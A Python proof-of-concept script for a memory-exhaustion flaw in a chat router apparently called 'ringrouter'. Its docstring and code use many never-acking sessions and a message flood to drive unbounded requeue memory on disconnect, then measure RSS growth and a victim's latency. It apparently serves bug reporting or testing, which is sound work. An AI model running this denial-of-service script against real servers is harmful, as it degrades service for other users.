"""Unacked room messages are held at ~16 B per member session (shared payload), but when
the sessions end each one is turned into its own StoredMsg (fresh from_user/to_room
Strings, ~200 B) and handed to the storage thread as one request per session
(`Shard::requeue`), which is never refused and not bounded by --max-store-queue-bytes.
One user with 64 sessions (--max-sessions-per-user) that read but never ack, in a room
where a second user posts K tiny messages, then disconnect.
usage: requeue_blowup.py TCPADDR PID HTTPADDR SESSIONS K"""
import sys, time, os, threading, select, urllib.request
sys.path.insert(0, os.path.dirname(__file__))
from wire import *
addr, pid, http, S, K = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
def metric(name):
    for l in urllib.request.urlopen(f"http://{http}/metrics").read().decode().splitlines():
        if l.startswith(name + " "): return float(l.split()[1])
spam = Conn(addr, "spam"); spam.send_frame(10, {1: 1, 2: "r"}); spam.wait("room_result")
pup = [Conn(addr, "puppet", device=f"d{i}", auto_ack=False) for i in range(S)]
pup[0].send_frame(11, {1: 1, 2: "r"}); pup[0].wait("room_result")
stop = False
def reader():     # read everything, never Ack
    socks = [c.s for c in pup]
    while not stop:
        r, _, _ = select.select(socks, [], [], 0.2)
        for s in r:
            try: s.recv(1 << 20)
            except OSError: pass
threading.Thread(target=reader, daemon=True).start()
r0 = rss(pid); t0 = time.time()
f = frame(2, {3: "r", 4: b"x"})
for i in range(0, K, 1000):
    spam.raw(f * 1000)
    spam.send_frame(4, {1: i}); spam.wait("pong", 60)
time.sleep(1)
print(f"sent {K} room msgs ({K*len(f)/2**20:.1f} MiB on the wire) in {time.time()-t0:.1f}s; rss {r0/1024:.0f} -> {rss(pid)/1024:.0f} MiB while {S} sessions hold them unacked", flush=True)
stop = True
for c in pup: c.close()
peak = 0
vic = Conn(addr, 'victim'); worst = 0
for i in range(40):
    t = time.time(); vic.send_frame(16, {1: i}); vic.wait('room_result', 120); lat = time.time() - t; worst = max(worst, lat)
    time.sleep(max(0, 1 - lat)); peak = max(peak, rss(pid))
    if i % 4 == 0:
        print(f"+{i+1}s after disconnect: rss {rss(pid)/1024:.0f} MiB, store_queue_bytes {metric('ringrouter_store_queue_bytes')/2**20:.0f} MiB, requeued {metric('ringrouter_requeued_total'):.0f}", flush=True)
    if rss(pid) > 9 * 2**20: print("stopping: rss > 9 GiB"); break
print(f"peak rss {peak/1024:.0f} MiB (--max-store-queue-bytes 64 MiB per shard); victim ListRooms worst latency {worst*1000:.0f} ms")
